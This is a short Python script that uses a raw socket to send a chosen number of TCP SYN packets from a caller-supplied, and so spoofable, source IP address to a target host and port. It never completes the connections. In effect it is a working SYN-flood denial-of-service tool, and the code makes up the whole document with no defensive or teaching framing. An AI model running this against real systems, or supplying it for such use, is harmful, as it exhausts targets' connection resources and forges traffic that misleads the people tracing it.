"""Begins connections that it never completes: SOURCE DESTINATION PORT COUNT. A SYN from each of COUNT ports of SOURCE, over IPv4."""
import socket, struct, sys
source, destination = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
port, count = int(sys.argv[3]), int(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


for own in range(10000, 10000 + count):
    tcp = struct.pack('!HHIIBBHHH', own, port, own, 0, 5 << 4, 2, 1024, 0, 0)
    pseudo = source + destination + struct.pack('!HH', 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), own, 0, 64, 6, 0, source, destination)
    raw.sendto(head + tcp, (sys.argv[2], 0))
